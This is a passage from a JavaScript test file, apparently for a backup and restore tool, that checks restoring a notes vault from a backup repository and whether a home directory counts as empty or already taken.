    const done = await comeBack(home.core, wishFor(old, { vaults: ['notes'] }), testHost())
    expect(done).toMatchObject({ verdict: 'done', runs: [{ repository: 'backups', result: { snapshot: null } }, { kind: 'restore' }] })
    expect(contentOf(path.join(old.person, 'notes'))).toMatchObject({ 'a.md': 'a note' })
    expect(homeHost(home.core.state.database)).toBe('laptop')
    await holds(home.core)
    expect(await home.backUp()).toEqual(['done'])
  })
})

test('what stays in a home is no hindrance, and a home with a life of its own is', async () => {
  const used = await ownBench()
  expect(comebackState(used.core).home).toBe('taken')
  const empty = await ownBench({ configuration: null })
  mkdirSync(path.join(empty.root, 'cache', 'old'), { recursive: true })
  expect(comebackState(empty.core).home).toBe('empty')
  await empty.core.record({ event: 'vault.known', vault: 'notes', name: 'notes', path: '/notes' })
  expect(comebackState(empty.core).home).toBe('taken')
})
